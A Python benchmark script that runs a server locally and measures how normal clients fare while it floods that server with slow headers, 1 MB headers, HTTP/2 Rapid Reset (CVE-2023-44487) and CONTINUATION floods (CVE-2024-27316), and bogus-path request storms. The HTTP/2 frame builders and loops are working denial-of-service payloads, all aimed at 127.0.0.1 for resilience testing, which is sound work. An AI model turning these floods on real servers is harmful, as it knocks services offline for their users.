#!/usr/bin/env python3
"""What do normal clients notice while others abuse the server?

    abuse.py SERVER_BINARY SNAPSHOT_FOLDER

Measures a client that stays and clients that come new, quiet and under each
attack: 2,000 slow heads, heads of a megabyte, HTTP/2 requests that are taken
back at once, HTTP/2 heads that never end, a million paths that might be objects
and are none; and, to compare, as many requests for what there is. Needs
slowhttptest and wrk. The attackers share the machine: what they take of its
processors shows at a second server, which nobody attacks.
"""

import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from contextlib import contextmanager
from pathlib import Path

REQUEST = b"GET /version.json HTTP/1.1\r\nHost: localhost\r\n\r\n"


def main():
    (server, port), (bystander, beside) = start(*sys.argv[1:3]), start(*sys.argv[1:3])
    try:
        time.sleep(3)
        for name, attack in {
            "quiet": quiet,
            "2,000 slow heads": slow_heads,
            "1 MB heads": large_heads,
            "rapid resets": rapid_resets,
            "endless h2 heads": continuations,
            "a million bad paths": bad_paths,
            "the pointer instead": good_paths,
            "quiet again": quiet,
        }.items():
            with attack(port):
                print(f"{name:20}{measure(port)}; {memory(server.pid)}", flush=True)
                print(f"{'  not attacked':20}{measure(beside)}", flush=True)
    finally:
        for process in (server, bystander):
            process.terminate()
            process.wait()


def start(binary, folder):
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    command = [binary, "--root", folder, "--listen", f"127.0.0.1:{port}"]
    return subprocess.Popen(command, stderr=subprocess.DEVNULL), port


def measure(port):
    staying = socket.create_connection(("127.0.0.1", port))
    stay = [timed(lambda: ask(staying)) for _ in range(1500)]
    new = [timed(lambda: ask_anew(port)) for _ in range(200)]
    return f"staying {percentiles(stay)}; new {percentiles(new)}"


def ask(connection):
    connection.sendall(REQUEST)
    if not connection.recv(65536).startswith(b"HTTP/1.1 200"):
        sys.exit("error: a normal client was not served")


def ask_anew(port):
    with socket.create_connection(("127.0.0.1", port)) as connection:
        ask(connection)


def timed(action):
    begun = time.perf_counter()
    action()
    return time.perf_counter() - begun


def percentiles(seconds):
    ordered = sorted(seconds)
    return f"p50 {ordered[len(ordered) // 2] * 1e6:.0f} us, p99 {ordered[len(ordered) * 99 // 100] * 1e6:.0f} us"


def memory(pid):
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS"):
            return f"{int(line.split()[1]) / 1024:.0f} MB"


@contextmanager
def quiet(_port):
    yield


@contextmanager
def slow_heads(port):
    command = ["slowhttptest", "-c", "2000", "-H", "-i", "5", "-x", "24", "-r", "1000", "-l", "12",
               "-t", "GET", "-p", "3", "-u", f"http://127.0.0.1:{port}/version.json"]
    with background(command, seconds_before=5):
        yield


@contextmanager
def large_heads(port):
    head = b"GET / HTTP/1.1\r\nHost: a\r\nX: " + b"a" * (1 << 20)
    with again_and_again(port, lambda connection: connection.sendall(head)):
        yield


def frame(kind, flags, stream, payload):
    """RFC 9113, section 4.1."""
    head = len(payload).to_bytes(3, "big") + bytes([kind, flags])
    return head + stream.to_bytes(4, "big") + payload


HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
GET = b"\x82\x86\x04\x0d/version.json\x01\x01a"


@contextmanager
def rapid_resets(port):
    """CVE-2023-44487."""
    pairs = b"".join(
        frame(1, 5, stream, GET) + frame(3, 0, stream, (8).to_bytes(4, "big"))
        for stream in range(1, 20_000, 2)
    )
    with again_and_again(port, lambda connection: connection.sendall(HELLO + pairs)):
        yield


@contextmanager
def continuations(port):
    """CVE-2024-27316."""
    flood = frame(9, 0, 1, b"\x00\x01a\x01b" * 3000) * 100
    with again_and_again(port, lambda connection: connection.sendall(HELLO + frame(1, 1, 1, GET) + flood)):
        yield


@contextmanager
def again_and_again(port, attack):
    """On new connections, as fast as one thread can; a pause of 5 ms leaves the others a processor."""
    stop = threading.Event()

    def run():
        while not stop.wait(0.005):
            try:
                with socket.create_connection(("127.0.0.1", port)) as connection:
                    attack(connection)
            except OSError:
                pass  # the server has had enough, as it should

    thread = threading.Thread(target=run)
    thread.start()
    time.sleep(0.5)
    yield
    stop.set()
    thread.join()


@contextmanager
def bad_paths(port):
    with tempfile.NamedTemporaryFile("w", suffix=".lua") as script:
        script.write("""local n = 0
            request = function()
                n = n + 1
                return wrk.format("GET", string.format("/tables/grips/%064x.json", n))
            end""")
        script.flush()
        # Until there were a million, in the name of the last one of which nothing exists either.
        command = ["wrk", "-t1", "-c8", "-d60s", "-s", script.name, f"http://127.0.0.1:{port}"]
        with background(command, seconds_before=1):
            yield


@contextmanager
def good_paths(port):
    command = ["wrk", "-t1", "-c8", "-d10s", f"http://127.0.0.1:{port}/version.json"]
    with background(command, seconds_before=1):
        yield


@contextmanager
def background(command, seconds_before):
    attack = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        time.sleep(seconds_before)
        yield
        attack.wait()
    finally:
        attack.kill()
        attack.wait()


if __name__ == "__main__":
    # SIGTERM ends what was started too, as Ctrl-C does.
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    main()
